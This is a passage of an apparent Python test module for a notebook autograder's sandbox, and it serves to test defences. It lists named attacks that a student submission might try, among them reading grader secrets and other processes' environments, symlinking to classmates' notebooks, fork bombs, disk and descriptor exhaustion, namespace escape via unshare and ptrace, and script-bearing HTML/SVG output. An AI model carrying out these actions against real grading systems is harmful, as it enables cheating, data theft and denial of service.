           "submission; append to nbgrader_config.py and another student's notebook", WRITE_COURSE),
    Attack("write-home", "write into the grader's HOME: append to a file there, create a file and a folder",
           WRITE_HOME),
    Attack("write-tmp", "write into the host's /tmp (and /var/tmp, /dev/shm)", WRITE_HOST_TMP),
    Attack("write-venv", "write into the virtual environment: append to a file of site-packages, of the "
           "editable gc_grader and of numpy; create files in site-packages and the Python installation", WRITE_VENV),
    Attack("symlink-secret", "plant symbolic links in the working folder and /tmp to the secret, the "
           "gradebook, the course and a classmate's notebook, and read through them", SYMLINK_SECRET),
    Attack("planted-symlink", "a submission folder holding symbolic links to the secret, the gradebook, a "
           "classmate's notebook and the course, read by the notebook", PLANTED_SYMLINK, planted_links=True),
    # Exhausting the machine.
    Attack("memory-6gib", "allocate and touch 6 GiB in the kernel", MEMORY_6GIB),
    Attack("memory-many-processes", "allocate and touch 6.4 GiB at once in four helper processes of 1.6 GiB",
           MEMORY_MANY_PROCESSES),
    # Its 255 sleeping children use up its own uid's 256 tasks, and its kernel starts no thread after that:
    # IPython keeps the history in memory there (provisioner.IN_MEMORY_HISTORY), so it has no saving
    # thread to start again after a fork. (With a history file, that restart failed and the next cell,
    # forward_propagation, was lost.) Its answers are graded as they are.
    Attack("fork-bomb", "fork 1000 processes that sleep an hour", FORK_BOMB),
    Attack("fill-disk", "write files in the working folder, then /tmp, until an error (at most 2 GiB)", FILL_DISK),
    Attack("flood-output", "print 200 MB, in lines of a million characters", FLOOD_OUTPUT, ends_with="OutputLost"),
    # Its kernel is forked from the zygote (gc_grader/sandbox/zygote.py) with every module the tests use
    # already imported: they open no file, so it costs nothing, not even itself. (A kernel started from
    # scratch had no descriptor left to import with, and lost gradient_check_n.)
    Attack("exhaust-fds", "open file descriptors until refused, and keep them", EXHAUST_FDS),
    Attack("ignore-sigint", "ignore SIGINT and sleep an hour in the kernel, beside a child that ignores "
           "SIGINT, SIGTERM and SIGHUP", IGNORE_SIGINT, ends_with="CellTimeoutError"),
    Attack("kill-everyone", "SIGKILL every process it sees, and kill(-1)", KILL_EVERYONE, ends_with="KernelDied"),
    # The network.
    Attack("connect-localhost", "connect to the test's server on 127.0.0.1, ::1 and localhost, send it UDP, "
           "scan 127.0.0.1's ports", CONNECT_LOCALHOST),
    Attack("connect-outside", "connect to the host's own network address, 1.1.1.1, 8.8.8.8; resolve a name",
           CONNECT_OUTSIDE),
    # Outliving grading, escaping the namespaces.
    Attack("daemon", "leave a daemon behind: double fork, setsid, ignore SIGINT/TERM/HUP, sleep an hour", DAEMON),
    Attack("nested-userns", "escape through a nested user namespace: unshare -Ur, -Urm with a bind of /, a "
           "fresh proc, nsenter into pid 1, unshare(CLONE_NEWUSER|CLONE_NEWNS) by hand", NESTED_USERNS),
    Attack("ptrace", "ptrace every process it sees (pid 1 first), read pid 1's environ, memory and root",
           PTRACE),
    # Output that would run in a browser.
    Attack("html-js-output", "HTML with <script>, onerror, javascript: links and an iframe; a Javascript "
           "output; Markdown with a javascript: link", HTML_JS_OUTPUT),
    Attack("svg-script-output", "SVG outputs with <script> and onload", SVG_SCRIPT_OUTPUT),
    # From a graded function's body: in the kernel and in the judge's answer process.
    Attack("judge-reads", "from gradient_check's body: read the secret, the gradebook, the hidden checks, a "
           "classmate's notebook and every /proc/<pid>/environ", JUDGE_READS, where="gradient_check"),
    Attack("judge-writes", "from gradient_check_n's body: write into the course, HOME, /tmp, the venv and "
           "the editable gc_grader", JUDGE_WRITES, where="gradient_check_n"),
    Attack("judge-connect", "from backward_propagation's body: connect to the test's server on 127.0.0.1 "
           "and on the host's address", JUDGE_CONNECT, where="backward_propagation"),
    Attack("judge-daemon", "from forward_propagation's body: leave a daemon behind", JUDGE_DAEMON,
           where="forward_propagation"),
]


def honest_submissions(canary):
    """The two honest students: right answers, and one known mistake (gradient_check_n without
    np.copy); each carries ``canary`` in a comment, the text other students must never see."""
    from submissions import corpus
    recipes = {s.student: s for s in corpus()}
    chosen = {"honest-correct": recipes["correct"], "honest-mistake": recipes["gcn_no_copy"]}
    honest = []
    for student, recipe in chosen.items():
        answers = dict(recipe.answers)
        answers["forward_propagation"] += f"\n# {canary}\n"
        honest.append(dataclasses.replace(recipe, student=student, answers=answers))
    return honest
